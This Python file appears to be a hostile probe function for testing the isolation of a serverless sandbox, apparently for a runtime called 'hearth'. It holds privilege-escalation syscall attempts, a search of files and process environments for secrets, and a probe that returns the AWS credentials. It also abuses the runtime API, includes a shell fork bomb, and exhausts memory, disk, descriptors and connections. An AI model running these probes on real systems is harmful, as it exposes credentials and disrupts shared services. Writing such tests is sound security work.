"""A function that tries what no function should, and tells how far it came:
each attempt's result is "ok", the name of an errno, or what it saw."""

import ctypes
import datetime
import errno
import hashlib
import hmac
import http.client
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)


def outcome(f, *args):
    try:
        r = f(*args)
        return "ok" if r is None else str(r)
    except OSError as e:
        return errno.errorcode.get(e.errno, type(e).__name__ + " " + str(e))


def look(e):
    """What is there to see: files, processes, descriptors, devices, mounts."""
    r = {}
    for path in e["paths"]:
        r["read " + path] = outcome(lambda: len(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(64)))
    for pid in e["pids"]:
        r[f"signal {pid}"] = outcome(os.kill, pid, 0)
        r[f"look at {pid}"] = outcome(os.listdir, f"/proc/{pid}")
    r["processes"] = sorted(open(f"/proc/{p}/comm").read().strip() for p in os.listdir("/proc") if p.isdigit())
    r["descriptors"] = sorted({os.readlink(f"/proc/self/fd/{n}").split("[")[0] for n in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{n}")})
    r["devices"] = sorted(os.listdir("/dev"))
    r["status"] = {k: v.strip() for k, v in (line.split(":", 1) for line in open("/proc/self/status")) if k in ("Uid", "Gid", "Groups", "NoNewPrivs", "Seccomp", "CapEff", "CapPrm", "CapBnd")}
    r["secrets"] = sorted(search([s.encode() for s in e["secrets"]]))
    return r


def search(secrets):
    """Looks for the secrets wherever a file can be read."""
    for top in os.listdir("/"):
        if top in ("usr", "lib", "lib64", "bin", "sbin", "sys", "proc"):
            continue  # the system's programs
        for folder, _, files in os.walk("/" + top):
            for name in files:
                path = os.path.join(folder, name)
                if not os.path.isfile(path):
                    continue
                try:
                    with open(path, "rb") as f:
                        data = f.read(16 << 20)
                except OSError:
                    continue
                if any(s in data for s in secrets):
                    yield path
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "mountinfo", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            if any(s in data for s in secrets):
                yield f"/proc/{pid}/{name}"


def privileges(e):
    r = {
        "setuid": outcome(os.setuid, 0),
        "setgid": outcome(os.setgid, 0),
        "setgroups": outcome(os.setgroups, [0]),
        "chroot": outcome(os.chroot, "/tmp"),
        "mknod": outcome(lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))),
        "raw socket": outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()),
        "packet socket": outcome(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()),
    }
    calls = {"mount": (165, b"x", b"/tmp", b"tmpfs", 0, None), "umount": (166, b"/tmp", 0), "ptrace": (101, 16, 1, 0, 0), "unshare": (272, 0x10000000),
             "setns": (308, 0, 0), "bpf": (321, 0, 0, 0), "keyctl": (250, 0, -3, 0), "reboot": (169, 0, 0, 0), "init_module": (175, 0, 0, 0),
             "open_tree": (428, -100, b"/", 1), "userfaultfd": (323, 0), "perf_event_open": (298, 0, 0, 0, 0, 0), "io_uring_setup": (425, 8, 0)}
    for name, args in calls.items():
        r[name] = "ok" if libc.syscall(*args) >= 0 else errno.errorcode[ctypes.get_errno()]
    shutil.copy("/usr/bin/id", "/tmp/id")
    os.chmod("/tmp/id", 0o6755)
    r["id"] = subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True).stdout.strip()
    return r


def write(e):
    def one(folder):
        path = os.path.join(folder, "hostile")
        with open(path, "w") as f:
            f.write("x")
        os.unlink(path)

    return {"write " + d: outcome(one, d) for d in e["dirs"]}


def dial(e):
    def one(address):
        host, _, port = address.rpartition(":")
        with socket.create_connection((host, int(port)), timeout=5) as s:
            s.settimeout(2)
            try:
                return "ok " + s.recv(100).decode()
            except TimeoutError:
                return "ok"

    return {"dial " + a: outcome(one, a) for a in e["addresses"]}


def signed(service, path, session=True):
    """Asks the API inside, signed with the credentials of the environment."""
    url = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"])
    at = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    headers = {"host": url.netloc, "x-amz-date": at}
    if session:
        headers["x-amz-security-token"] = os.environ["AWS_SESSION_TOKEN"]
    names = ";".join(sorted(headers))
    canonical = "\n".join(["GET", path, "", *(f"{k}:{headers[k]}" for k in sorted(headers)), "", names, hashlib.sha256(b"").hexdigest()])
    scope = f"{at[:8]}/{os.environ['AWS_REGION']}/{service}/aws4_request"
    key = ("AWS4" + os.environ["AWS_SECRET_ACCESS_KEY"]).encode()
    for part in scope.split("/"):
        key = hmac.new(key, part.encode(), "sha256").digest()
    text = "\n".join(["AWS4-HMAC-SHA256", at, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    signature = hmac.new(key, text.encode(), "sha256").hexdigest()
    headers["authorization"] = f"AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/{scope}, SignedHeaders={names}, Signature={signature}"
    return get(url.netloc, path, headers)


def get(address, path, headers={}, method="GET", body=None):
    c = http.client.HTTPConnection(address, timeout=10)
    c.request(method, path, body, headers)
    r = c.getresponse()
    return f"{r.status} {r.read(10000).decode(errors='replace')}"


def api(e):
    address = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"]).netloc
    return {
        "list functions": signed("lambda", "/2015-03-31/functions"),
        "list without the token": signed("lambda", "/2015-03-31/functions", session=False),
        "unsigned": get(address, "/2015-03-31/functions"),
        "metrics": get(address, "/metrics"),
        **{path: signed(service, path) for path in ("/_hearth/v1/ps", "/_hearth/v1/decisions", "/_hearth/v1/logs?function=neighbour") for service in ("hearth",)},
        "credentials": {k: os.environ[k] for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")},
    }


def runtime_api(e):
    """Abuses the runtime API, which is this container's own."""
    address, prefix = os.environ["AWS_LAMBDA_RUNTIME_API"], "/2018-06-01/runtime/"
    r = {"a response to another's request": get(address, prefix + "invocation/11111111-2222-3333-4444-555555555555/response", method="POST", body="{}"),
         "an error of another's request": get(address, prefix + "invocation/../../x/error", method="POST", body="{}"),
         "init error now": get(address, prefix + "init/error", method="POST", body="{}"),
         "what is not there": get(address, "/_hearth/v1/ps")}

    def garbage(data):
        with socket.create_connection(address.split(":"), timeout=5) as s:
            try:
                s.sendall(data)
            except OSError:
                pass  # it need not read all of it
            return s.recv(100).decode(errors="replace").split("\r")[0]

    r["garbage"] = outcome(garbage, b"\x00" * 1000 + b"\r\n\r\n")
    r["a header without end"] = outcome(garbage, b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 500000)
    held = []
    for _ in range(300):  # each with a request that does not end
        try:
            held.append(socket.create_connection(address.split(":"), timeout=1))
            held[-1].setblocking(False)
            held[-1].send(b"GET / HTTP/1.1\r\nx: " + b"y" * 60000)
        except OSError:
            break  # no more are taken
    return r


def bodies(e):
    """Sends large bodies to the API, all but their ends, and keeps them there."""
    url, held = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"]), []
    at = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    head = "\r\n".join([f"POST {e['path']} HTTP/1.1", f"Host: {url.netloc}", f"X-Amz-Date: {at}", f"Content-Length: {e['size']}",
        f"X-Amz-Security-Token: {os.environ['AWS_SESSION_TOKEN']}", "Content-Type: application/json",
        f"Authorization: AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/{at[:8]}/{os.environ['AWS_REGION']}/lambda/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature={'0' * 64}", "", ""]).encode()
    data = head + b" " * (e["size"] - 1)
    sent, answers = [0] * e["connections"], {}

    def one(i):
        try:
            with socket.create_connection((url.hostname, url.port), timeout=5) as s:
                while sent[i] < len(data):
                    sent[i] += s.send(data[sent[i]:sent[i] + (1 << 16)])
                s.settimeout(e["seconds"])
                answer = s.recv(30).decode()
        except OSError as err:
            answer = type(err).__name__
        answers[answer] = answers.get(answer, 0) + 1

    all = [threading.Thread(target=one, args=(i,)) for i in range(e["connections"])]
    for t in all:
        t.start()
    for t in all:
        t.join()
    return {"answers": answers, "MiB": sum(sent) >> 20}


def forks(e):
    pids, end = [], "no end"
    while len(pids) < 5000:
        try:
            pid = os.fork()
        except OSError as err:
            end = errno.errorcode[err.errno]
            break
        if pid == 0:
            signal.pause()
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    for pid in pids:
        os.waitpid(pid, 0)
    return {"forks": len(pids), "end": end}


def bomb(e):
    subprocess.Popen(["/bin/sh", "-c", "b() { b | b & }; b; sleep 1000"], stderr=subprocess.DEVNULL)
    time.sleep(e.get("seconds", 3))
    return {}


def memory(e):
    held = []
    while True:
        held.append(bytearray(b"x") * (8 << 20))


def fill(e):
    r = {}
    for folder in ("/tmp", "/dev/shm"):
        block, n = b"\1" * (1 << 20), 0
        try:
            with open(folder + "/fill", "wb", buffering=0) as f:
                while n < 4096 << 20:
                    n += f.write(block)
            r[folder] = "no end"
        except OSError as err:
            r[folder] = errno.errorcode[err.errno]
        r[folder + " MiB"] = n >> 20
        os.unlink(folder + "/fill")
    return r


def inodes(e):
    n, until = 0, time.monotonic() + 5
    while time.monotonic() < until:
        open(f"/tmp/{n}", "w").close()
        n += 1
    return {"files": n}


def descriptors(e):
    held = []
    try:
        while len(held) < 100000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as err:
        end = errno.errorcode[err.errno]
    for fd in held:
        os.close(fd)
    return {"descriptors": len(held), "end": end}


def connections(e):
    """As many connections to the API as can be had, all at once."""
    url, held, errors = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"]), [], {}
    for _ in range(900):
        try:
            held.append(socket.create_connection((url.hostname, url.port), timeout=1))
        except OSError as err:
            name = type(err).__name__ if err.errno is None else errno.errorcode[err.errno]
            errors[name] = errors.get(name, 0) + 1
            if sum(errors.values()) >= 5:
                break
    n = len(held)
    for s in held:
        s.close()
    return {"connections": n, "errors": errors}


def flood(e):
    line = "x" * 1000 + "\n"
    for _ in range(e["MiB"] * 1000):
        os.write(1, line.encode())
    return {}


def threads(e):
    made, end = 0, "no end"
    stop = threading.Event()
    try:
        while made < 5000:
            threading.Thread(target=stop.wait, daemon=True).start()
            made += 1
    except RuntimeError:
        end = "refused"
    stop.set()
    return {"threads": made, "end": end}


def daemon(e):
    """Leaves a process that has left its parent, its session and its signals."""
    ready, done = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open("/proc/self/comm", "w") as f:
                f.write(e["name"])
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            os.write(done, b".")
            for fd in (0, 1, 2, ready, done):
                os.close(fd)
            while True:
                time.sleep(1000)
        os._exit(0)
    os.wait()
    os.read(ready, 1)  # it has its name before anybody looks
    with open("/tmp/left", "w") as f:
        f.write("left")
    return {}


def descriptors_abuse(e):
    """Writes garbage into every descriptor that it has, and closes them."""
    os.set_blocking(1, False)
    for n in map(int, os.listdir("/proc/self/fd")):
        for data in (b"\x00\xff" * 2000, b'{"handler":"x"}\n'):
            try:
                os.write(n, data)
            except OSError:
                pass
    os.closerange(3, 1024)
    return {}


def nothing(e):
    return {"left": os.path.exists("/tmp/left")}


def handler(event, context):
    return globals()[event["do"]](event)
